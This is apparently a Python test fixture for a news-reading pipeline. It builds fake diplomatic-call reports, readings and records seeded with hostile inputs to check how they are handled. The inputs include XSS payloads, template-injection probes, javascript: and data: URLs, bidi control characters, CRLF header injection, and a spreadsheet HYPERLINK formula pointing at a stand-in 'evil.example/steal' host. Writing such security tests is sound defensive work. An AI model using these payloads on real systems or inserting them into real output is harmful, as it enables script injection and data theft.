"""A record of documents that an enemy wrote: read by the pipeline, and worse than any pipeline lets through."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

from dragoman.model import (
    Account,
    Amount,
    Claim,
    Commitment,
    Document,
    Figure,
    Instrument,
    Participant,
    Quotation,
    Reading,
    Span,
    Tenure,
)
from dragoman.reading.canonical import hash_text
from dragoman.record import Record

SCRIPT = "<script>window.hacked=1;alert(1)</script>"
IMAGE = '"><img src=x onerror="window.hacked=1"><xss-born data-xss=1>'
QUOTED = "'\"><svg onload=window.hacked=1 xss-born>"
TEMPLATE = "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>"
ENTITIES = "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;xss-born&#62;"
TURNED = "\u202eevil\u2066 \u200fmarks\x07\x1b[31m"
FORMULA = '=HYPERLINK("http://evil.example/steal","click")'
BROKEN = "Bulletin\r\nX-HACKED:1\r\nBEGIN:VEVENT"
JAVASCRIPT = "javascript:window.hacked=1//"
DATA = "data:text/html,<script>window.hacked=1</script>"
LONG = "x" * 1_900_000
WIDE = "W" * 300
ADDRESSES = (JAVASCRIPT, DATA, "vbscript:x", " java\tscript:window.hacked=1", "//evil.example/x", "https://ok.example/")

CALL = (
    "Foreign Minister Retno Wijaya of Indonesia held a telephone call with Foreign Minister Penny Marsh of Australia "
    f"on 3 May 2025. They discussed fisheries {SCRIPT} and {TURNED}trade {IMAGE}. “We will meet {SCRIPT} soon "
    f"{TEMPLATE} {ENTITIES},” Marsh said. Australia will give $5 million to the Coral {QUOTED} Fund by June 2031. "
    f"See {JAVASCRIPT} and <a href='{JAVASCRIPT}' onclick=alert(1)>here</a>, or {DATA}. {WIDE}\n"
)


def write_reports(folder: Path) -> list[Path]:
    """Files as they may come from anywhere."""
    rows = [
        {
            "id": f"{IMAGE}-{number}",
            "title": title,
            "published": "2025-05-04",
            "source": f"{QUOTED} {SCRIPT} Gazette {TURNED}",
            "url": address,
            "text": f"{number}. {CALL}",
        }
        for number, (title, address) in enumerate(
            zip((FORMULA, f"{SCRIPT} {TURNED}", TEMPLATE + ENTITIES, BROKEN, WIDE, IMAGE), ADDRESSES, strict=True)
        )
    ]
    lines = folder / "reports.jsonl"
    lines.write_text("\n".join(json.dumps(row) for row in rows), "utf-8")
    page = folder / "page.html"
    page.write_text(f"<title>{ENTITIES}</title><p>{CALL}<iframe src='{JAVASCRIPT}'></iframe></p>", "utf-8")
    long = folder / "long.txt"
    long.write_text(LONG, "utf-8")
    return [lines, page, long]


def build_reading(number: int) -> Reading:
    """A reading whose every word is hostile: names of people, offices, places and instruments too."""
    person, other = f"Ida {SCRIPT} Berg", f"Bo {IMAGE} {TURNED} Holm"
    text = f"{number} {person} called {other} in {QUOTED}. {FORMULA} {WIDE} {TEMPLATE} {ENTITIES}"
    whole = Span(0, len(text), text)
    named = Span(2, 2 + len(person), person)
    call = Account(
        id="e1",
        channel=Claim("call", (whole,), "rule:x", f"because {SCRIPT}"),
        status=Claim("planned", (whole,), "rule:x", f"because {IMAGE}"),
        date=Claim("2031-05-03", (whole,), "rule:x", QUOTED),
        date_basis="text",
        place=Claim(f"{QUOTED} {SCRIPT} {WIDE}", (whole,), "rule:x"),
        participants=(
            Participant(person, f"Minister {QUOTED}", "DNK", (named,), why=SCRIPT),
            Participant(other, f"{FORMULA} {TURNED}", "NOR", (whole,), why=IMAGE),
            Participant(f"The {SCRIPT} Council {WIDE}", None, None, (whole,), kind="body"),
        ),
        topics=(Claim(f"{SCRIPT} topic {TURNED}", (whole,)), Claim(TEMPLATE, (whole,)), Claim(FORMULA, (whole,))),
        evidence=(whole,),
    )
    document = Document(
        f"{SCRIPT}{number}", text, hash_text(text), BROKEN, "2031-05-04", f"{IMAGE} Post", JAVASCRIPT, "en"
    )
    fund = f"{SCRIPT} {QUOTED} Fund {TURNED}"
    return Reading(
        document=document,
        engagements=(call,),
        quotes=(Quotation(text, 0, len(text), "direct", person, named, whole, IMAGE, TURNED),),
        amounts=(Amount(text, 0, len(text), 5e6, "EUR", fund),),
        commitments=(Commitment("DNK", "NOR", "pledge", whole, f"€5 million {SCRIPT}", fund, "2031-06"),),
        instruments=(
            Instrument(
                fund,
                f"{IMAGE}",
                f"fund {QUOTED}",
                (Figure(f"paid {SCRIPT}", 84.75, f"% {IMAGE}", whole, "2031-05"),),
                (whole,),
            ),
        ),
        tenures=(Tenure(person, f"Minister {SCRIPT}", "DNK", "2029", None, whole),),
    )


def fill_record(record: Record, folder: Path) -> None:
    """File all of it, and judge it in hostile words."""
    record.add(write_reports(folder))
    readings = [build_reading(1), replace(build_reading(2), notes=(SCRIPT,))]
    record.add_documents([reading.document for reading in readings], lambda _: iter(readings))
    for engagement in list(record.engagements())[:3]:
        record.judge("correct", engagement.id, field="place", value=f"{IMAGE} {TURNED}", by=SCRIPT, why=QUOTED)
    record.desk.follow("desk", "IDN")
    record.desk.follow("desk", "<script>window.hacked=1</script>")
    record.desk.save_view("desk", f"{SCRIPT}{QUOTED}"[:100], "/engagements?with=%22%3E%3Cxss-born%3E")
    record.desk.note_action(SCRIPT, IMAGE[:100], QUOTED, f"{FORMULA} {TEMPLATE} {TURNED}", "203.0.113.9")
